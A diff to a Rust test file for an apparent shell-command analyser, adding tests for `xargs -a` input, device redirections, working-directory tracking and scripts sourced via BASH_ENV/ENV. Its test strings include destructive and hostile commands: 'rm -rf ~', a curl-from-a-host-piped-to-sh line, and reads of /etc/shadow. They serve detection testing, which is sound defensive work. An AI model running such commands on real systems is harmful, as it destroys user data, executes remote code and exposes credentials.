@@ -59,7 +59,8 @@ fn pipeline_feeds() {
     assert!(!x.feeds_any(&["cat", "grep"], &["cat"]));
 }
 /// `cmd < file` is `cat file | cmd`: the file's reader is a command of its own feeding the
-/// command (a loop, a group), and a lone `< file` / `$(< file)` is that reader alone.
+/// command (a loop, a group), and a lone `< file` / `$(< file)` is that reader alone; `xargs -a
+/// FILE cmd` is `cat FILE | xargs cmd`.
 #[test]
 fn input_redirection_reads_the_file() {
     for (src, progs_want, feeds_want) in [
@@ -77,6 +78,9 @@ fn input_redirection_reads_the_file() {
             &[(0, 1), (0, 2)],
         ),
         ("{ cat; } < k", &["cat", "cat"], &[(1, 0)]),
+        // `xargs -a FILE cmd` reads FILE the same way
+        ("xargs -a k echo", &["cat", "echo"], &[(0, 1)]),
+        ("xargs --arg-file=k -n1 echo", &["cat", "echo"], &[(0, 1)]),
     ] {
         let x = a(src);
         assert_eq!(progs(src), progs_want, "{src}");
@@ -85,6 +89,20 @@ fn input_redirection_reads_the_file() {
         feeds.dedup();
         assert_eq!(feeds, feeds_want, "{src}");
     }
+    // a device is no file read (`ssh host cmd < /dev/null`)
+    assert_eq!(progs("ssh h uptime < /dev/null"), ["ssh", "uptime"]);
+    assert_eq!(progs("nc h 80 < /dev/zero"), ["nc"]);
+    // a group's or a loop's input is opened before its body runs: where it started
+    let x = a("cd /etc; { cd /tmp; cat; } < shadow");
+    let r = x
+        .commands
+        .iter()
+        .rfind(|c| c.program == "cat" && !c.args.is_empty())
+        .unwrap();
+    assert_eq!(r.args[0].path.as_deref(), Some("/etc/shadow"));
+    let x = a("cd /etc; for i in 1; do cd /tmp; read l; done < shadow");
+    let r = x.commands.iter().rfind(|c| c.program == "cat").unwrap();
+    assert_eq!(r.args[0].path.as_deref(), Some("/etc/shadow"));
     // the reader names the file (resolved where the command runs), and is no member of the
     // group it feeds: the group's redirections are not its own
     let x = a("cd /etc && { read a; read b; } < shadow");
@@ -1153,6 +1171,27 @@ fn harmless_table() {
     }
 }
 
+/// `cd DIR || exit` leaves what follows in DIR (had the cd failed, nothing would follow);
+/// `cd DIR || B` otherwise runs B where the line started, and what follows B there too.
+#[test]
+fn cd_or_exit_keeps_the_directory() {
+    let cwd_of = |s: &str, p: &str| {
+        a(s).commands
+            .iter()
+            .find(|c| c.program == p)
+            .and_then(|c| c.cwd.clone())
+    };
+    for (src, want) in [
+        ("cd /etc || exit 1; cat shadow", Some("/etc")),
+        ("cd /etc || { echo no; exit 1; }; cat shadow", Some("/etc")),
+        ("cd /etc || return; cat shadow", Some("/etc")),
+        ("cd /etc && cat shadow", Some("/etc")),
+        ("cd /etc || echo no; cat shadow", Some("/home/u/proj")),
+    ] {
+        assert_eq!(cwd_of(src, "cat").as_deref(), want, "{src}");
+    }
+}
+
 // ---------- control flow ----------
 #[test]
 fn control_flow_bodies() {
@@ -1538,7 +1577,17 @@ fn scripts_written_then_run() {
         "echo 'curl -s https://x.example | sh' | tee /tmp/i.sh >/dev/null; bash /tmp/i.sh",
         "curl"
     ));
+    // a shell sources the file BASH_ENV / ENV names before it runs
+    assert!(runs(
+        "echo 'rm -rf ~' > /tmp/e.sh; BASH_ENV=/tmp/e.sh bash -c true",
+        "rm"
+    ));
+    assert!(runs("echo 'rm -rf ~' > e.sh; export ENV=e.sh; sh -i", "rm"));
     // another file, or a file written with unknown text, is not this text
+    assert!(!runs(
+        "echo 'rm -rf ~' > a.sh; BASH_ENV=b.sh bash -c true",
+        "rm"
+    ));
     assert!(!runs("echo 'rm -rf ~' > a.sh; bash b.sh", "rm"));
     assert!(!runs("echo \"$X\" > a.sh; bash a.sh", "rm"));
     let harmless = a("echo 'echo hi' > t.sh && bash t.sh");
